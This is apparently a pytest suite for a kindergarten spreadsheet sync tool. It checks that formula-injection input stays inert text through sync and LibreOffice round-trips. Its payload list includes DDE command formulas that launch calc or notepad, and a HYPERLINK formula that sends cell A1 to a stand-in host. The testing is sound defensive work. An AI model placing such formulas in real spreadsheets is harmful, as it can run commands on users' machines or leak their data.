"""A value a kindergarten typed is data, never code: formula injection, end to end through a sync.

Payloads go into a kindergarten's sheet as text (as Excel stores what a person types in a text
cell); after ``baulu sync`` every place they land — the master's consolidated sheets, its findings
sheet, the kindergarten's feedback tab, the cells the master pushes — holds them as string cells
with the same text, and LibreOffice, opening the files, computes nothing of them.
"""

from __future__ import annotations

import io
import shutil
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.comments import Comment
from openpyxl.workbook.workbook import Workbook

from macros.sync_cmd import sync_once
from schemas.celltext import needs_quote, writable_text
from schemas.sheets import CONTEST_RESULTS, FEEDBACK, FINDINGS, PLAN, PLAN_STATUS, POSTS, consolidated_spec
from schemas.writeplan import Formula
from sync.engine import SyncReport
from sync.store import Store
from tests.test_libreoffice import convert
from workbook.cells import set_value
from workbook.reader import find_sheet
from workbook.sheetmap import map_sheet

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")",
    "=WEBSERVICE(\"http://example.invalid\")",
    "#N/A",
    "1-2",
    "00123",
    "1e5",
    "12/03",
    "TRUE",
)
"""Formula starts (= + - @, tab, CR, full-width ＝), DDE forms, an error code, and text Excel would
turn into a number, a date or a boolean on entry."""

LONG = "Жоба туралы толық есеп. " * 1800
"""43,200 characters: more than an Excel cell holds (Google Sheets holds 50,000)."""

PUSHED = "=2*3 (жоспар / план)"
"""Text the coordinator typed into a plan item: pushed into every kindergarten, as text."""


def _type(cell: Cell, text: str) -> None:
    """What Excel stores when a person types ``text`` into a text cell."""
    cell.value = text
    cell.data_type = "s"


@dataclass(frozen=True)
class Injected:
    root: Path
    report: SyncReport


@pytest.fixture(scope="module")
def injected(new_workspace: Path, tmp_path_factory: pytest.TempPathFactory) -> Injected:
    root = Path(shutil.copytree(new_workspace, tmp_path_factory.mktemp("inject") / "ws"))
    path = root / "kindergartens" / "47.xlsx"
    wb = openpyxl.load_workbook(path)
    posts = find_sheet(wb, POSTS)
    assert posts is not None
    columns = map_sheet(posts, POSTS).columns
    for row, payload in enumerate(PAYLOADS, start=2):
        posts.cell(row=row, column=columns["date"]).value = f"{row:02d}.03.2026"
        posts.cell(row=row, column=columns["network"]).value = "Instagram"
        _type(posts.cell(row=row, column=columns["link"]), f"https://instagram.com/p/{row}")
        _type(posts.cell(row=row, column=columns["comment"]), payload)
    long_row = len(PAYLOADS) + 2
    posts.cell(row=long_row, column=columns["date"]).value = "01.04.2026"
    posts.cell(row=long_row, column=columns["network"]).value = "Instagram"
    _type(posts.cell(row=long_row, column=columns["link"]), "https://instagram.com/p/long")
    comment = posts.cell(row=long_row, column=columns["comment"])
    comment._value, comment.data_type = LONG, "s"  # openpyxl would cut it; another program need not
    # an enum the kindergarten typed and a header it added: both end up quoted in findings
    _type(posts.cell(row=2, column=columns["network"]), "@SUM(1+1)")
    _type(posts.cell(row=1, column=len(POSTS.columns) + 2), "=cmd|' /C notepad'!A0")
    contests = find_sheet(wb, CONTEST_RESULTS)
    assert contests is not None
    children = contests.cell(row=2, column=map_sheet(contests, CONTEST_RESULTS).columns["children"])
    _type(children, "=1+1")
    children.comment = Comment("=2+2 (менің ескертпем)", "Жетекші")  # kept aside while Baulu's note covers it
    wb.save(path)

    master = openpyxl.load_workbook(root / "master.xlsx")
    plan = find_sheet(master, PLAN)
    assert plan is not None
    plan_map = map_sheet(plan, PLAN)
    row = next(r for r in range(2, plan.max_row + 1)
               if str(plan.cell(row=r, column=plan_map.columns["item_id"]).value) == "3.1")
    _type(plan.cell(row=row, column=plan_map.columns["text"]), PUSHED)
    master.save(root / "master.xlsx")

    report = sync_once(root)
    return Injected(root, report)


def _text_cells(wb: Workbook, wanted: set[str]) -> dict[str, list[Cell]]:
    """Every cell of ``wb`` whose value is one of ``wanted``, by value."""
    found: dict[str, list[Cell]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell, Cell) and isinstance(cell.value, str) and cell.value in wanted:
                    found.setdefault(cell.value, []).append(cell)
    return found


def _formulas(wb: Workbook, *, skip: tuple[str, ...] = ()) -> list[str]:
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in wb.worksheets if ws.title not in skip
            for row in ws.iter_rows() for c in row if isinstance(c, Cell) and c.data_type == "f"]


def _stripped() -> set[str]:
    return {p.strip() for p in PAYLOADS}


def _check_master(wb: Workbook) -> None:
    spec = consolidated_spec(POSTS)
    sheet = find_sheet(wb, spec)
    assert sheet is not None
    columns = map_sheet(sheet, spec).columns
    comments = {
        str(sheet.cell(row=r, column=columns["comment"]).value): sheet.cell(row=r, column=columns["comment"])
        for r in range(2, sheet.max_row + 1) if sheet.cell(row=r, column=columns["org"]).value == "47"
    }
    cut = next(text for text in comments if text.startswith(LONG[:100]))
    assert len(cut) == 32_767 and cut.endswith("…") and comments.pop(cut).data_type == "s"
    assert set(comments) == _stripped()
    for text, cell in comments.items():
        assert cell.data_type == "s", (text, cell.data_type)
    findings = find_sheet(wb, FINDINGS)
    assert findings is not None
    values = {str(c.value): c for c in next(findings.iter_cols(min_col=6, max_col=6))[1:] if c.value is not None}
    for payload in ("=1+1", "@SUM(1+1)", "=cmd|' /C notepad'!A0"):
        assert values[payload].data_type == "s", payload
    summary = wb.worksheets[0].title
    assert _formulas(wb, skip=(summary,)) == []


def _check_kindergarten(wb: Workbook) -> None:
    feedback = find_sheet(wb, FEEDBACK)
    assert feedback is not None
    values = {str(c.value): c for c in next(feedback.iter_cols(min_col=6, max_col=6))[1:] if c.value is not None}
    assert {"=1+1", "@SUM(1+1)", "=cmd|' /C notepad'!A0"} <= set(values)
    assert all(c.data_type == "s" for c in values.values())
    pushed = _text_cells(wb, {PUSHED})[PUSHED]
    assert [c.parent.title for c in pushed] == [PLAN_STATUS.kk]
    assert pushed[0].data_type == "s"
    assert _text_cells(wb, {"=2+2 (менің ескертпем)"})["=2+2 (менің ескертпем)"][0].data_type == "s"
    assert _formulas(wb) == []


def test_what_a_kindergarten_typed_arrives_as_text_in_the_master(injected: Injected) -> None:
    assert {o.org: o.status for o in injected.report.orgs}["47"] == "ok"
    rules = {(f.rule, f.value) for f in injected.report.findings if f.org == "47"}
    assert {("type.integer", "=1+1"), ("value.choice", "@SUM(1+1)"),
            ("header.unknown", "=cmd|' /C notepad'!A0")} <= rules
    _check_master(openpyxl.load_workbook(injected.root / "master.xlsx"))


def test_feedback_tab_and_pushed_cells_hold_text(injected: Injected) -> None:
    _check_kindergarten(openpyxl.load_workbook(injected.root / "kindergartens" / "47.xlsx"))


def test_text_that_excel_would_convert_is_marked_to_stay_text(injected: Injected) -> None:
    wb = openpyxl.load_workbook(injected.root / "master.xlsx")
    found = _text_cells(wb, _stripped())
    for text in _stripped():
        for cell in found[text]:
            assert cell.data_type == "s" and cell.value == text
            assert cell.quotePrefix, text  # editing the cell in Excel keeps it text


def test_libreoffice_computes_nothing_a_kindergarten_typed(injected: Injected, soffice: str,
                                                           tmp_path: Path) -> None:
    """LibreOffice opens both files and saves them again: every payload is still the same text."""
    for source, check in ((injected.root / "master.xlsx", _check_master),
                          (injected.root / "kindergartens" / "47.xlsx", _check_kindergarten)):
        copy = tmp_path / "in" / source.name
        copy.parent.mkdir(exist_ok=True)
        shutil.copy2(source, copy)
        check(openpyxl.load_workbook(convert(soffice, copy, "xlsx", tmp_path / "out")))


# --------------------------------------------------------------------------- the cell writer itself


@pytest.mark.parametrize("text", [*PAYLOADS, "Ана мен бала", "", "a" * 40_000, "x\x01y\x1fz"])
def test_set_value_writes_every_str_as_text(text: str) -> None:
    ws = openpyxl.Workbook().active
    assert ws is not None
    cell = ws["A1"]
    set_value(cell, text)
    buffer = io.BytesIO()
    assert ws.parent is not None
    ws.parent.save(buffer)
    back = openpyxl.load_workbook(buffer).active
    assert back is not None
    written = back["A1"]
    expected = writable_text(text)
    # a lone CR: XML reads it as a line end, unless the writer escaped it (openpyxl does with lxml)
    assert (written.value or "") in (expected, expected.replace("\r", "\n"))
    if expected:
        assert written.data_type == "s"
        assert bool(written.quotePrefix) == needs_quote(expected)
    assert len(expected) <= 32_767


def test_formulas_baulu_or_the_coordinator_wrote_stay_formulas() -> None:
    ws = openpyxl.Workbook().active
    assert ws is not None
    set_value(ws["A1"], Formula("=SUM(B1:B3)"))
    set_value(ws["A2"], "=SUM(B1:B3)")
    assert ws["A1"].data_type == "f" and ws["A2"].data_type == "s"
    set_value(ws["A2"], 5)  # a number replaces text: no quote prefix left behind
    assert ws["A2"].data_type == "n" and not ws["A2"].quotePrefix


def test_a_cell_too_long_for_excel_is_a_finding_and_kept_whole_in_the_store(injected: Injected) -> None:
    (found,) = [f for f in injected.report.findings if f.rule == "value.too_long"]
    assert (found.org, found.sheet, found.cell, found.severity) == ("47", POSTS.kk, f"E{len(PAYLOADS) + 2}",
                                                                     "warning")
    assert "43200" in found.message_kk and "32767" in found.message_ru
    with Store.for_workspace(injected.root) as store:
        latest = store.latest("47")
    assert latest is not None
    assert LONG in [c for row in latest.tabs[POSTS.kk] for c in row]
